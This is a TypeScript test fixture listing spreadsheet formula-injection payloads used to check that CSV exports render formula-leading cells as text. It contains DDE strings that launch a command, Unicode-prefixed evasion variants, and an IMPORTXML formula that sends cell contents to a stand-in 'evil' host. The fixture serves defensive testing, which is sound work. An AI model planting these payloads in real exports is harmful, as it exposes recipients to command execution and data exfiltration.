/**
 * OWASP-style spreadsheet formula payloads (https://owasp.org/www-community/attacks/CSV_Injection):
 * each starts a formula in some spreadsheet program, so each must come out of a CSV as text. Shared
 * by the unit test of the cell rule and the e2e test of the exports.
 */
export const FORMULA_PAYLOADS = [
  '=HYPERLINK("http://evil","x")',
  "+cmd|' /C calc'!A0",
  '@SUM(1+1)',
  '-2+3',
  "=cmd|'/C calc'!A0",
  '\t=1+1',
  '\t@SUM(1)',
  '\r=1',
  '＝1+1',
  ' =1',
  '=1+1',
  "-cmd|' /C calc'!A0",
  '@A1',
  '＋1+1',
  '－1+1',
  '＠SUM(1)',
  '\u3000=1+1',
  '\u200b=1+1',
  '\ufeff+1',
  '\n=1+1',
  '﹦1+1',
  '=IMPORTXML(CONCAT("http://evil/?",A1),"//a")',
  '=DDE("cmd";"/C calc";"!A0")',
];
